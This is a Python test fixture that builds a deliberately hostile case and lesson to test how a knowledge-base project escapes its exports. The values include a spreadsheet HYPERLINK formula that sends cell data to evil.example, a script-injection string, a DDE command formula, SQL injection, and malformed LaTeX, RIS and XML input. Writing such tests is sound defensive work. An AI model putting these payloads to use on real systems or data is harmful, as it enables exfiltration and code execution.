"""A case and a lesson that a person with bad intent might send, or one with unusual letters."""

from datetime import date
from decimal import Decimal

from learning_alliance.domain.place import Place
from tests.knowledge_builders import (
    a_case,
    a_difficulty,
    a_lesson_on,
    a_result,
    a_source,
    an_amount,
)

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
END_OF_SCRIPT = "</script><script>alert(1)</script>"
BRACES = "{unbalanced \\ } {{ % $ # & _ ~ ^ \\textbf{x"
NOT_IN_XML = "bell \x07, not a character \ufffe"
RIGHT_TO_LEFT = "مدينة بلا أحياء فقيرة"
SPLITTER = "drains;=1+1;@SUM(A1)"
HOSTILE_ID = "aa-hostile"

HOSTILE_CASE = a_case(
    HOSTILE_ID,
    title=FORMULA,
    summary=f"{END_OF_SCRIPT} {NOT_IN_XML}\nsecond line, with \"quotes\" and 'apostrophes'",
    problem=RIGHT_TO_LEFT,
    places=(Place("+Nowhere", "KE", 0.0, -1.5),),
    contributors=("@SUM(1)", "Name|with bar"),
    unverified=("-2+3", "\tTab"),
    sources=(
        a_source("s1", author=BRACES, title=f"{{{BRACES}", publisher="@misc{x, title={y}}"),
        a_source(
            "s2", "press", author="Author not shown", title=END_OF_SCRIPT, url="https://example.org/{a}?b=%7B"
        ),
        a_source("s3", "thesis", author=RIGHT_TO_LEFT, title="TY  - JOUR\r\nER  - \r\n", year=None),
        a_source("s4", "peer-reviewed", title=NOT_IN_XML, archived_url="https://archive.example.org/}"),
    ),
    results=(
        a_result(value="=1+1", unit="-", note="＝wide"),
        a_result(value=Decimal("-2.50"), unit="'=already quoted"),
        a_result(value=Decimal("0.000001")),
        a_result(value=Decimal(0)),
    ),
    finance=(an_amount(funder="=cmd|' /C calc'!A0", amount=Decimal("123456789012.25"), year=None),),
    difficulties=(a_difficulty(text=SPLITTER, response='"; DROP TABLE cases; --'),),
    last_reviewed=date(2026, 3, 1),
    body=f"## Context\n\n{END_OF_SCRIPT} {FORMULA}\n",
)
HOSTILE_LESSON = a_lesson_on(
    HOSTILE_ID, lesson_id="a-hostile-lesson", title=f"{BRACES} & <b>bold</b>", summary=NOT_IN_XML, do=FORMULA
)
